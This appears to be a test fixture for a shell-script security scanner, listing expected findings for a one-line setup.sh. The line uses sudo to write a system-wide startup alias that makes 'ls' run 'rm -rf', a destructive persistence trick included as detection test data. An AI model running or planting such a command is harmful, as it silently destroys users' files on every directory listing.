# expect: shell.startup_file_write high
# expect: shell.sudo medium
# path: setup.sh
echo 'alias ls="rm -rf"' | sudo tee -a /etc/profile.d/zz.sh
